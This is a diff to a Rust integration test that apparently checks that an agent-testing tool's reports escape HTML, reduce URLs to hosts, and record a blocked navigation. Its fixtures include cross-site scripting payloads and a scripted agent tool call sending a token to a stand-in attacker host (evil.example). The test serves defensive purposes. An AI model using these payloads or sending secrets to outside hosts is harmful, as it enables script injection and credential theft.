@@ -15,7 +15,11 @@ use std::process::{Command, Stdio};
 use kit::*;
 
 const PWNED_LABEL: &str = "<script>document.title='pwned'</script>Add to cart";
-const FINDINGS: &str = "# Findings\n\nThe <b>cart</b> page & its \"Checkout\" button <img src=x onerror=alert(1)> confused me.\n";
+/// A label holding a URL, as a page may name a link.
+const URL_LABEL: &str = "Go to https://u:pw@staging.example.com/deals?token=secret now";
+const FINDINGS: &str = "# Findings\n\nThe <b>cart</b> page & its \"Checkout\" button <img src=x onerror=alert(1)> confused me.\nSee https://staging.example.com/cart?token=secret.\n";
+/// The findings as a report shows them: the URL reduced to its host.
+const FINDINGS_SHOWN: &str = "# Findings\n\nThe <b>cart</b> page & its \"Checkout\" button <img src=x onerror=alert(1)> confused me.\nSee <staging.example.com>";
 
 /// Chromium for rendering, or `None` (the test then says SKIPPED) outside CI. In CI a missing
 /// browser fails: these tests never skip there.
@@ -169,6 +173,12 @@ fn violating_script() -> String {
         ),
         claude_tool_ok("t2"),
         claude_tool_use(
+            "t5",
+            "mcp__personastub__click",
+            serde_json::json!({"label": URL_LABEL}),
+        ),
+        claude_tool_ok("t5"),
+        claude_tool_use(
             "t3",
             "mcp__personastub__navigate",
             serde_json::json!({"url": "https://evil.example/?token=secret"}),
@@ -246,13 +256,14 @@ fn a_violating_run_writes_a_report_chromium_renders_and_a_junit_failure() {
         "click label (?i)place order",
         "path /checkout/confirm",
         PWNED_LABEL,
-        "The <b>cart</b> page & its \"Checkout\" button <img src=x onerror=alert(1)> confused me.",
+        "The <b>cart</b> page & its \"Checkout\" button <img src=x onerror=alert(1)> confused me. See <staging.example.com>",
         "blocked",
         "evil.example",
         "hook_failed_open",
         "prod-dashboard.example.org",
         "browser/output/page-shot.png",
-        "4 actions",
+        "5 actions",
+        "Go to <staging.example.com> now",
     ] {
         assert!(
             text.contains(want),
@@ -276,11 +287,12 @@ fn a_violating_run_writes_a_report_chromium_renders_and_a_junit_failure() {
         "{xml}"
     );
     assert!(failure.text.contains("prod-dashboard.example.org"), "{xml}");
+    assert!(failure.text.contains("#4 blocked"), "{xml}");
     let sysout = doc.first("system-out");
-    assert!(sysout.text.contains(FINDINGS.trim_end()), "{xml}");
+    assert!(sysout.text.contains(FINDINGS_SHOWN), "{xml}");
     // Claude's denial carries no reason in today's journal (issue #14 item 5); the wall is listed.
     assert!(
-        sysout.text.contains("#3 blocked") && sysout.text.contains("[evil.example]"),
+        sysout.text.contains("#4 blocked") && sysout.text.contains("[evil.example]"),
         "{xml}"
     );
     assert!(!xml.contains("secret") && !xml.contains("://"), "{xml}");
